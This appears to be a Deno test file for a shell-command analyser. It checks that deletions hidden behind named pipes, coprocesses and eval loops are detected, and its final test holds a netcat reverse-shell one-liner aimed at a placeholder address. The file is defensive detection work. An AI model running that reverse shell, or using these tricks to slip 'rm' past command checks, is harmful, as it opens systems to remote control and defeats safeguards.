import { assertEquals } from "@std/assert";
import { deletes, effectsOf } from "./support.ts";

const ONES: readonly string[] = [
  "mkfifo p; bash < p & echo rm a > p",
  "mkfifo p q; bash < q & cat < p > q & echo rm a > p",
  'coproc bash; echo rm a >&"${COPROC[1]}"',
  'coproc bash && echo rm a >&"${COPROC[1]}"',
  'coproc P { bash; }; echo rm a >&"${P[1]}"',
  'coproc echo rm a; bash <&"${COPROC[0]}"',
  "coproc cat; echo rm a >&${COPROC[1]}; sh <&${COPROC[0]}",
  'while read -r line; do eval "$line"; done < p & cd b; echo rm a > ../p',
];

for (const statement of ONES) {
  Deno.test(`startJob() shows what runs once something is written: ${statement}`, () => {
    assertEquals(deletes(statement), ["a"]);
  });
}

Deno.test("wakeJobs() leaves alone what has read nothing that changed", () => {
  assertEquals(deletes("rm a & echo b > c; echo d > e"), ["a"]);
  assertEquals(deletes("cat c && rm a & echo b > d"), ["a"]);
});

Deno.test("a coprocess that a connection drives is a shell for whoever is there", () => {
  assertEquals(effectsOf("interpret", "coproc sh; nc 203.0.113.9 80 <&${COPROC[0]} >&${COPROC[1]}").length > 0, true);
});
